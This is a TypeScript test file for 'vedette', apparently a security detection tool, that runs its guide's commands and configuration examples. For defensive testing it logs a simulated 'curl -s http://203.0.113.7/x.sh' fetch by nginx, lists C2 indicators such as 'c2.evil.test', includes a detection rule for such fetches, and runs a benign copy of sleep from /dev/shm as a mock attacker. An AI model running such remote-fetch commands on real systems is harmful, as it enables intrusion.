import { type ChildProcess, spawn } from 'node:child_process'
import { once } from 'node:events'
import {
  chmodSync,
  copyFileSync,
  existsSync,
  globSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { basename, join } from 'node:path'
import { setTimeout as delay } from 'node:timers/promises'
import { fileURLToPath } from 'node:url'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { type House, startHouse, vedette } from '../../test/house.ts'

/** Every command of the guide is run, and every example of code and configuration, as they stand there. */
const folder = fileURLToPath(new URL('.', import.meta.url))
const root = fileURLToPath(new URL('../..', import.meta.url))
const scratch = mkdtempSync(join(tmpdir(), 'vedette-guide-'))

/** Logs for the page on hunting. */
const logs = join(scratch, 'logs')
mkdirSync(logs)
writeFileSync(
  join(logs, 'processes.ndjson'),
  `${JSON.stringify({
    product: 'linux',
    category: 'process_creation',
    '@timestamp': '2026-11-20T08:00:00Z',
    host: 'web1',
    Image: '/usr/bin/curl',
    CommandLine: 'curl -s http://203.0.113.7/x.sh',
    ParentImage: '/usr/sbin/nginx',
    User: 'www-data',
  })}\n`,
)

/** A list of indicators and a feed of them, for the page on these; the feed tells something new each time. */
const iocs = join(scratch, 'iocs.txt')
writeFileSync(iocs, 'c2.evil.test\n45.9.148.7\n10.0.0.1\nnonsense here\n')
let told = 0
const feed = createServer((_request, response) => {
  told += 1
  response.end(`{"domains": ["c2-${told}.evil.test"]}`)
})

/** A rule with a case, and a folder of rules to install, for the page on rules. */
const rulePack = join(scratch, 'rule-pack')
mkdirSync(join(rulePack, 'cases'), { recursive: true })
writeFileSync(
  join(rulePack, 'rule.yml'),
  `title: Something is fetched from a bare address by a web server
id: 0c1d8f0e-6a0b-4d7e-9f0c-3b8b6f6f2a11
logsource: { product: linux, category: process_creation }
detection:
  selection: { ParentImage|endswith: /nginx, CommandLine|contains: 'http://' }
  condition: selection
level: high
`,
)
copyFileSync(join(logs, 'processes.ndjson'), join(rulePack, 'cases', 'hit-curl.ndjson'))

/** Policies of a role, as the page on people has them. */
const policies = join(scratch, 'night-watch.cedar')

/** What the page on backups encrypts with. */
const backupKey = join(scratch, 'backup-key')
writeFileSync(backupKey, 'a quiet morning by the sea\n', { mode: 0o600 })

/** Pages that are worked through by tests of their own. */
const APART = ['api.md', 'build-a-collector.md', 'write-a-rule.md']

/** Run by this test's own being: CI installed, and the house below is `npm start`. */
const STARTS = ['npm ci', 'npm start']

interface Block {
  readonly page: string
  readonly language: string
  readonly text: string
}

function blocks(language: string): Block[] {
  const pages = [
    ...globSync('*.md', { cwd: folder, exclude: APART }).map((page) => join(folder, page)),
    join(root, 'README.md'),
  ]
  return pages
    .sort()
    .flatMap((page) =>
      [...readFileSync(page, 'utf8').matchAll(/^```(\w+)\n(.*?)^```$/gms)]
        .filter((found) => found[1] === language)
        .map((found) => ({ page: basename(page), language, text: found[2] ?? '' })),
    )
}

/** Words of a command line; quotes hold words together, `$NAME` is filled in. */
function words(line: string, variables: Readonly<Record<string, string>>): string[] {
  return [...line.matchAll(/"([^"]*)"|(\S+)/g)].map((found) =>
    (found[1] ?? found[2] ?? '').replace(/\$([A-Z]+)/g, (_, name: string) => {
      const value = variables[name]
      if (value === undefined) throw new Error(`the guide uses $${name}, which nothing sets`)
      return value
    }),
  )
}

let house: House
let attacker: ChildProcess

beforeAll(async () => {
  await new Promise<void>((resolve) => feed.listen(0, '127.0.0.1', resolve))
  // What the pages on responses and on many hosts tell the reader to configure.
  const config = join(scratch, 'house.yml')
  writeFileSync(policies, blocks('cedar')[0]?.text ?? '')
  const yamlOf = (page: string) => blocks('yaml').find((block) => block.page === page)?.text ?? ''
  const fleet = yamlOf('fleet.md').replace('0.0.0.0:8443', '127.0.0.1:0')
  writeFileSync(config, `${yamlOf('responding.md')}${fleet}`)
  house = await startHouse({ args: ['--config', config] })
  const program = join('/dev/shm', `vedette-guide-${process.pid}`)
  copyFileSync('/bin/sleep', program)
  attacker = spawn(program, ['600'], { stdio: 'ignore' })
  await once(attacker, 'spawn')
  rmSync(program)
  const deadlineMs = performance.now() + 20_000
  while ((await first('alerts', 'list')) === undefined || (await first('incident', 'list')) === undefined) {
    if (performance.now() > deadlineMs) throw new Error('no alert came of a program in shared memory')
    await delay(100)
  }
})
afterAll(async () => {
  attacker.kill('SIGKILL')
  feed.closeAllConnections()
  feed.close()
  await house[Symbol.asyncDispose]()
  rmSync(scratch, { recursive: true })
})

/** Id of the newest of a list. */
async function first(...command: string[]): Promise<string | undefined> {
  const { stdout } = await house.vedette(...command, '--json')
  return (JSON.parse(stdout) as { id: string }[])[0]?.id
}

/** Whatever else this machine does meanwhile: the alert that the page is about. */
async function alertOfAttacker(): Promise<string> {
  const { stdout } = await house.vedette('alerts', 'list', '--json', '--limit', '1000')
  const alerts = JSON.parse(stdout) as { id: string; process: { path: string | null } | null }[]
  return alerts.find(({ process }) => process?.path?.startsWith('/dev/shm/vedette-guide-'))?.id ?? ''
}

/** The event on which the newest alert fired. */
async function eventOfFirstAlert(): Promise<string> {
  const { stdout } = await house.vedette('alerts', 'show', (await first('alerts', 'list')) ?? '', '--json')
  return (JSON.parse(stdout) as { matches: { event_id: string }[] }).matches[0]?.event_id ?? ''
}

describe('commands', () => {
  const commands = blocks('console').flatMap(({ page, text }) =>
    text
      .split('\n')
      .filter((line) => line.startsWith('$ '))
      .map((line) => ({ page, line: line.slice(2) })),
  )

  test('there are many', () => {
    expect(commands.length).toBeGreaterThan(25)
  })

  test.each(commands.filter(({ line }) => !STARTS.includes(line)))('$page: $line', async ({ line }) => {
    const [program, ...args] = words(line.replace(/^npx vedette/, 'vedette'), {
      ...(line.includes('$ALERT') && {
        ALERT: line.includes('rules exception')
          ? await alertOfAttacker()
          : ((await first('alerts', 'list')) ?? ''),
      }),
      ...(line.includes('$INCIDENT') && { INCIDENT: (await first('incident', 'list')) ?? '' }),
      PID: String(attacker.pid),
      LOGS: logs,
      RULES: join(root, 'content/rules'),
      CAPTURE: join(root, 'packages/formats/src/pcap/cases/conversations/input.pcap'),
      RULE: join(rulePack, 'rule.yml'),
      PACK: rulePack,
      ...(line.includes('$EVENT') && { EVENT: await eventOfFirstAlert() }),
      REPORT: join(scratch, 'report.html'),
      IOCS: iocs,
      CHECKPOINT: join(scratch, 'checkpoint'),
      PROOF: join(scratch, 'proof.json'),
      BACKUP: join(scratch, 'house.backup'),
      KEY: backupKey,
      NEWKEY: join(scratch, 'master.key'),
      POLICIES: policies,
      FEED: `http://127.0.0.1:${(feed.address() as AddressInfo).port}/list.json`,
      ...(line.includes('$INDICATOR') && { INDICATOR: (await first('indicators', 'list')) ?? '' }),
      ...(line.includes('$ALLOWED') && { ALLOWED: (await first('allow', 'list')) ?? '' }),
    })
    expect(program).toBe('vedette')
    // That the name was typed is what is stored of it, a moment later.
    if (line.includes('privacy export'))
      await expect.poll(async () => (await house.vedette(...args)).stdout).not.toBe('')
    const { status, stdout, stderr } = await house.vedette(...args)
    // What other tests delete before it is scanned, or end before an ordinary user's sensor has a look, is lost, and
    // health says so.
    const isFine = status === 0 || (status === 1 && line.endsWith('health') && stdout.startsWith('degraded'))
    expect({ line, isFine, stderr }).toEqual({ line, isFine: true, stderr: '' })
    expect(stdout).not.toBe('')
  })
})

test.each(blocks('yaml'))('$page: the configuration is accepted', async ({ text }) => {
  const file = join(scratch, 'vedette.yml')
  writeFileSync(file, text)
  expect(await vedette(['config', 'check', file])).toMatchObject({ status: 0 })
})

test('library.md: the program runs and ends with its first alert', async () => {
  const [example] = blocks('ts').filter(({ page }) => page === 'library.md')
  // Self-reference of the package: the file has to lie within it.
  const program = join(folder, `example-${process.pid}.generated.ts`)
  writeFileSync(program, example?.text ?? '')
  chmodSync(scratch, 0o711)
  const running = spawn(process.execPath, ['--conditions=vedette-source', program], {
    env: { ...process.env, VEDETTE_HOME: join(scratch, 'library') },
    stdio: ['ignore', 'pipe', 'pipe'],
  })
  try {
    let printed = ''
    let complained = ''
    running.stdout.setEncoding('utf8').on('data', (text: string) => {
      printed += text
    })
    running.stderr.setEncoding('utf8').on('data', (text: string) => {
      complained += text
    })
    const ended = once(running, 'exit')
    const attack = join('/dev/shm', `vedette-library-${process.pid}`)
    copyFileSync('/bin/true', attack)
    // Before it watches an attack goes unseen; so again and again until it has ended.
    while (running.exitCode === null && running.signalCode === null) {
      await once(spawn(attack, { stdio: 'ignore' }), 'exit')
      await Promise.race([delay(300), ended])
    }
    rmSync(attack)
    expect({ code: running.exitCode, complained }).toEqual({ code: 0, complained: '' })
    // Ours, or something else that this machine did meanwhile: the first one ends the example.
    expect(printed).toMatch(/^(?:low|medium|high|critical) \S.* \[/m)
  } finally {
    running.kill('SIGKILL')
    rmSync(program)
  }
})

test('library.md: one look over the machine, then others until it is interrupted', async () => {
  const [, example] = blocks('ts').filter(({ page }) => page === 'library.md')
  const [config] = blocks('json').filter(({ page }) => page === 'scanning.md')
  const own = join(scratch, 'detector')
  mkdirSync(own)
  writeFileSync(join(own, 'custom_security_config.json'), config?.text ?? '')
  const program = join(folder, `detector-${process.pid}.generated.ts`)
  writeFileSync(program, `${example?.text ?? ''}\nconsole.log('ended')\n`)
  const running = spawn(process.execPath, ['--conditions=vedette-source', program], {
    cwd: own,
    env: { ...process.env, XDG_CONFIG_HOME: join(own, 'config') },
    stdio: ['ignore', 'pipe', 'inherit'],
  })
  try {
    let printed = ''
    running.stdout.setEncoding('utf8').on('data', (text: string) => {
      printed += text
    })
    const ended = once(running, 'exit')
    // The log of the second look is open once the first is over and the program can be interrupted.
    const log = join(own, 'custom_security_logs', 'security-events.log')
    const lines = () => (existsSync(log) ? readFileSync(log, 'latin1').split('\n').length : 0)
    while (lines() < 3 && running.exitCode === null) await delay(50)
    const first = lines()
    while (lines() === first && running.exitCode === null) await delay(50)
    running.kill('SIGINT')
    expect(await ended).toEqual([0, null])
    expect(printed).toMatch(/^ended$/m)
  } finally {
    running.kill('SIGKILL')
    rmSync(program)
  }
})
